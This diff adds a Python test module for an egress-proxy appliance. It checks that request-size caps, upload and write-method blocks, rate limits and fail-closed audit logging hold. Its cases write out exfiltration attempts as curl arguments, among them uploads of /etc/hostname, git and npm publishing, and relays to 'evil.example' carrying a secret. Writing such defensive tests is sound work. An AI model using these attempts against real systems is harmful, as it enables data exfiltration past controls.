@@ -1,0 +1,280 @@
+"""F: what a permitted use may amount to. Sizes, uploads, rates, budgets; and no decision without its record.
+
+Two attacks have no row, because nothing could be seen to hold: F5 (timing and order of permitted requests as a
+channel: accepted, see SECURITY.md) and F8 (an approver who is talked round: nothing here asks one).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import resource
+import secrets
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+from appliance.verify import client
+from appliance.verify.case import Canary, Case, Layer, Outcome, Output
+from appliance.verify.parts import any_question, errand, past_the_proxy, requested
+from appliance.verify.tenants import eventually, tenant, told
+from appliance.verify.world import World
+
+REFUSED, REACHES = Outcome.REFUSED, Outcome.REACHES
+PROXIED = frozenset({Layer.GATEWAY, Layer.SQUID})
+UNROWED = {
+    "F5": "timing and ordering are channels that are accepted, and SECURITY.md says so",
+    "F8": "no model and no person is asked for approval, so there is none to talk round or to flood",
+}
+FLOOD_CONNECTIONS = 400
+
+
+def rows(world: World) -> list[Case]:
+    """Every case of section F."""
+    return [*_sizes(world), *_uploads(world), *_limits(world), *_records(world)]
+
+
+def _sizes(world: World) -> list[Case]:
+    """F1: a secret in what a reading tenant may send."""
+    t = world.targets
+    base = f"https://{t.www.name}/canary/F1/"
+    plain = f"http://{t.www.name}/canary/F1/"
+    attempts = {
+        "path:": [f"{base}{'p' * 9000}"],
+        "query:": [f"{base}query?q={'q' * 9000}"],
+        "plain-query:": [f"{plain}query?q={'q' * 9000}"],
+        "longest-line:": [f"{base}line?q={'q' * 60000}"],
+        "agent:": ["-A", "a" * 17000, f"{base}agent"],
+        "cookie:": ["-H", f"Cookie: c={'c' * 17000}", f"{base}cookie"],
+        "field:": ["-H", f"X-Data: {'d' * 17000}", f"{base}field"],
+        "many-fields:": [*_fields(99, 200), f"{base}fields"],
+        "too-many-fields:": [*_fields(150, 1), f"{base}count"],
+        "longest-head:": [*_fields(12, 9000), f"{base}head"],
+        "field-name:": ["-H", f"X-{'n' * 17000}: 1", f"{base}name"],
+        "body:": ["-X", "GET", "--data", "x=secret", f"{base}body"],
+        "head-body:": ["-X", "HEAD", "--data", "x=secret", f"{base}body"],
+        "chunked-body:": ["-X", "GET", "-H", "Transfer-Encoding: chunked", "--data", "x", f"{base}chunked"],
+    }
+    answers = {
+        **dict.fromkeys(("path:", "query:", "plain-query:"), "414 uri-too-long"),
+        **dict.fromkeys(
+            ("agent:", "cookie:", "field:", "many-fields:", "field-name:"), "431 headers-too-large"
+        ),
+        "longest-line:": "414", "too-many-fields:": "431", "longest-head:": "431",
+        **dict.fromkeys(("body:", "chunked-body:"), "403 body-not-allowed"),
+    }  # fmt: skip
+    direct = {
+        "uri:": past_the_proxy(f"{plain}query?q={'q' * 9000}"),
+        "uri-tls:": past_the_proxy(f"{base}query?q={'q' * 9000}"),
+        "cookie-tls:": past_the_proxy("-H", f"Cookie: c={'c' * 17000}", f"{base}cookie"),
+    }
+    secret = secrets.token_urlsafe(60)
+    return [
+        Case("F1-sizes", "target, header fields and cookies over the caps; a body on GET and HEAD", REFUSED,
+             errand(client.fetch, attempts), (requested(world, t.www, "/canary/F1/*"),), layers=PROXIED,
+             expect=tuple(f"{label} {answer}" for label, answer in answers.items()), forbid=(" 200",)),
+        Case("F1-sizes-direct", "the same past the proxy", REFUSED,
+             errand(client.fetch, direct), (requested(world, t.www, "/canary/F1/*"),),
+             expect=("uri: 414", "uri-tls: 414", "cookie-tls: 431"), forbid=(" 200",)),
+        Case("F1-signal", "a secret within the caps: let through, and told as remarkable", REACHES,
+             lambda world: _signalled(world, secret), (requested(world, t.www, "/canary/F1-signal"),),
+             expect=("read: 200", "told: high-entropy-target")),
+    ]  # fmt: skip
+
+
+def _fields(count: int, size: int) -> list[str]:
+    """Words for curl: so many fields of so many bytes each."""
+    return [word for number in range(count) for word in ("-H", f"X-{number}: {'f' * size}")]
+
+
+def _signalled(world: World, secret: str) -> Output:
+    url = f"https://{world.targets.www.name}/canary/F1-signal?d={secret}"
+    done = world.run("reader", errand(client.fetch, {"read:": [url]}))
+    log = world.egress("--json", "log", "-n", "20", "--tenant", world.tenants["reader"])
+    told = [line for line in log.text.splitlines() if "/canary/F1-signal" in line and "high-entropy" in line]
+    return Output(done.status, f"{done.text}told: {'high-entropy-target' if told else 'nothing'}\n")
+
+
+def _uploads(world: World) -> list[Case]:
+    """F3: everything that writes somewhere, on a host that may be read."""
+    t = world.targets
+    base = f"https://{t.www.name}/canary/F3/"
+    attempts = {
+        "git-push:": [
+            "-H", "Content-Type: application/x-git-receive-pack-request", "--data-binary", "0000",
+            f"{base}x.git/git-receive-pack",
+        ],
+        "npm-publish:": [
+            "-X", "PUT", "-H", "Content-Type: application/json", "--data", "{}", f"{base}package",
+        ],
+        "pypi-upload:": ["-F", ":action=file_upload", "-F", "content=@/etc/hostname", f"{base}legacy/"],
+        "gist:": ["-H", "Content-Type: application/json", "--data", "{}", f"{base}gists"],
+        "comment:": ["--data", "body=secret", f"{base}issues/1/comments"],
+        "put-file:": ["-T", "/etc/hostname", f"{base}file"],
+        "patch:": ["-X", "PATCH", "--data", "x", f"{base}file"],
+        "delete:": ["-X", "DELETE", f"{base}file"],
+        "empty-post:": ["-X", "POST", f"{base}ping?d=secret"],
+        "plain-post:": ["--data", "x", f"http://{t.www.name}/canary/F3/plain"],
+        "options:": ["-X", "OPTIONS", f"{base}options"],
+    }  # fmt: skip
+    unknown = {
+        f"{method.lower()}:": ["-X", method, f"{base}dav"]
+        for method in ("PROPFIND", "MKCOL", "COPY", "REPORT", "SEARCH", "PURGE")
+    }
+    override = {
+        "override:": ["-X", "POST", "-H", "X-HTTP-Method-Override: GET", "--data", "x", f"{base}override"],
+    }
+    all_of_them = {**attempts, **unknown, **override}
+    proxies = {
+        "save:": ["--path-as-is", f"{base}save/https://evil.example/?d=secret"],
+        "translate:": [f"{base}translate?u=https://evil.example/"],
+        "cors:": [f"{base}raw?https://evil.example/secret"],
+    }
+    posted = ("--request", "POST", "--data", "x")
+    canary = Canary(
+        f"{t.www.name}/canary/F3/", world.requests(t.www.name, None, "/canary/F3/*"),
+        lambda: world.fetch(t.www, "/canary/F3/control", *posted),
+    )  # fmt: skip
+    return [
+        Case("F3-uploads", "git push, publishing, comments, files: every writing method, on a readable host",
+             REFUSED, errand(client.fetch, all_of_them), (canary,), layers=PROXIED,
+             expect=(*(f"{label} 403 method-not-allowed" for label in (*attempts, *override)),
+                     *(f"{label} 403 method" for label in unknown)),
+             forbid=(" 200",)),
+        Case("F3-services", "services of an allowed host that fetch, save or translate for others", REFUSED,
+             errand(client.fetch, proxies), (canary,), tenant="lister", layers=PROXIED,
+             expect=("save: 400 path-empty-segment", "translate: 403 query-not-allowed",
+                     "cors: 403 query-not-allowed"), forbid=(" 200",)),
+    ]  # fmt: skip
+
+
+def _limits(world: World) -> list[Case]:
+    """F4: how much and how fast."""
+    www = world.targets.www
+    own = {"container": {"connections": 8, "requests_per_second": 5, "bytes_out": "48KiB"}}
+    shared = {
+        "tenant": {"bytes_in": "8KiB"},
+        "destination": {"requests_per_second": 5},
+        "container": {"new_connections_per_second": 10},
+    }
+    after = [requested(world, www, f"/canary/F4-{word}") for word in ("held", "out-after", "burst-39")]
+    return [
+        Case("F4-container", "a container over its connections, its requests a second, its bytes out",
+             REFUSED, lambda world: _over(world, own, [
+                 (client.hold, ["held:", www.name, "/canary/F4-held", 8]),
+                 (client.burst, ["burst:", www.name, "/canary/F4-burst-", 40]),
+                 (client.use_up, ["out:", www.name, "/canary/F4-out", 6000, 20, "/canary/F4-out-after"]),
+             ]), tuple(after),
+             expect=("held: 429 connections-exceeded limits.container.connections retry-after",
+                     "burst: first 200 last 429 requests-per-second-exceeded",
+                     "limits.container.requests_per_second retry-after",
+                     "out: stopped 429 bytes-out-exceeded limits.container.bytes_out retry-after",
+                     "out: then 429 bytes-out-exceeded")),
+        Case("F4-tenant", "the limits of a tenant as a whole, and of a tenant at one destination", REFUSED,
+             lambda world: _over(world, shared, [
+                 (client.burst, ["burst:", www.name, "/canary/F4-there-", 40]),
+                 (client.rush, ["rush:", www.name, 40]),
+                 (client.use_up, ["in:", www.name, "/canary/F4-in", 400, 60, "/canary/F4-in-after"]),
+             ]), (requested(world, www, "/canary/F4-there-39"), requested(world, www, "/canary/F4-in-after")),
+             expect=("last 429 requests-per-second-exceeded limits.destination.requests_per_second",
+                     "rush: 429 new-connections-per-second-exceeded",
+                     "in: stopped 429 bytes-in-exceeded limits.tenant.bytes_in retry-after",
+                     "in: then 429 bytes-in-exceeded")),
+        Case("F4-fair", "one tenant floods with connections and questions: another gets every answer",
+             REACHES, _beside, (requested(world, www, "/"),), expect=('steady {"200": 40}', "429")),
+    ]  # fmt: skip
+
+
+def _over(world: World, limits: dict[str, Any], errands: list[tuple[Any, list[Any]]]) -> Output:
+    """Errands one after the other, each in a container of its own, of a tenant with such limits."""
+    policy = {"profile": "read-only-web", "limits": limits}
+    with tenant(world, json.dumps(policy)) as bounded:
+        outputs = [world.run(bounded.name, errand(way, what)) for way, what in errands]
+    return Output(outputs[-1].status, "".join(output.text for output in outputs))
+
+
+def _beside(world: World) -> Output:
+    """The steady tenant's output, then the greedy one's."""
+    www = world.targets.www
+    policy = {"profile": "read-only-web", "limits": {"container": {"requests_per_second": 20}}}
+    with tenant(world, json.dumps(policy)) as greedy, ThreadPoolExecutor(1) as pool:
+        beside = pool.submit(
+            world.run, greedy.name, errand(client.greedy, [www.name, "/canary/F4-greedy", 4])
+        )
+        steady = world.run("reader", errand(client.steady, [www.name, "/", 40, 0.05]))
+        flood = beside.result()
+    return Output(steady.status, steady.text + flood.text)
+
+
+def _records(world: World) -> list[Case]:
+    """F7: what cannot be recorded is not done, and a flood of refusals is no flood of records."""
+    www = world.targets.www
+    return [
+        Case("F7-sink", "records cannot be written: nothing is allowed, and all is well again afterwards",
+             REFUSED, _without_records, (requested(world, www, "/canary/F7"), any_question(world)),
+             expect=("web: 503 audit-unavailable", "name: rcode 2, 0 answers",
+                     "refused: 503 audit-unavailable", "again: 403 method-not-allowed"), forbid=("web: 200",), disruptive=True),
+        Case("F7-flood", "a flood of refused connections: on record, but one record stands for many", REFUSED,
+             _flood_of_refusals, (),
+             expect=("on record: True", "fewer than connections: True", "chains: intact")),
+    ]  # fmt: skip
+
+
+@contextlib.contextmanager
+def _files_full(world: World) -> Iterator[None]:
+    """No process of ours that serves containers may make any file longer: as a failed disk, but it heals."""
+    pids = told(world.egress("--json", "status"))["processes"]["supervisor"]["processes"]
+    served = [pid for name, pid in pids.items() if name.startswith(("gateway", "resolver")) and pid]
+    if not served:
+        raise OSError("no process is known whose files could be kept from growing")
+    before = {pid: resource.prlimit(pid, resource.RLIMIT_FSIZE) for pid in served}
+    try:
+        for pid, (_, hard) in before.items():
+            resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, hard))
+        yield
+    finally:
+        for pid, limits in before.items():
+            with contextlib.suppress(ProcessLookupError):
+                resource.prlimit(pid, resource.RLIMIT_FSIZE, limits)
+
+
+def _without_records(world: World) -> Output:
+    """What was being done when it was noticed may end unrecorded: hence the refused requests that come first."""
+    www = world.targets.www
+    url = f"http://{www.name}/canary/F7"
+    fresh = f"f7-{secrets.token_hex(6)}.{world.targets.leaks}"
+    refused = {f"refused-{number}:": ["-X", "POST", url] for number in range(2)}
+    with _files_full(world):
+        first = world.run("reader", errand(client.fetch, refused))
+        asked = world.run(
+            "reader", errand(client.ask, [[f"first-{n}:", "", "udp", "A", "a..b"] for n in range(3)])
+        )
+        web = world.run("reader", errand(client.fetch, {"web:": [url], "refused:": ["-X", "POST", url]}))
+        name = world.run("reader", errand(client.ask, [["name:", "", "udp", "A", fresh]]))
+    again = ""
+
+    def serves() -> bool:
+        nonlocal again
+        again = world.run("reader", errand(client.fetch, {"again:": ["-X", "POST", url]})).text
+        return "403" in again
+
+    eventually(serves)
+    return Output(0, f"{first.text}{asked.text}{web.text}{name.text}{again}")
+
+
+def _flood_of_refusals(world: World) -> Output:
+    www = world.targets.www
+    limits = {"container": {"new_connections_per_second": 5}}
+    policy = {"profile": "read-only-web", "limits": limits}
+    with tenant(world, json.dumps(policy)) as flooding:
+        done = world.run(flooding.name, errand(client.rush, ["rush:", www.name, FLOOD_CONNECTIONS]))
+        log = world.egress("--json", "log", "--tenant", flooding.name)
+        chains = world.egress("log", "--verify")
+    count = sum("new-connections-per-second-exceeded" in line for line in log.text.splitlines())
+    facts = {
+        "on record": count > 0,
+        "fewer than connections": count < FLOOD_CONNECTIONS // 2,
+        "chains": "intact" if chains.status == 0 else chains.text,
+    }
+    said = "".join(f"{what}: {holds}\n" for what, holds in facts.items())
+    return Output(done.status, f"{done.text}{count} records\n{said}")
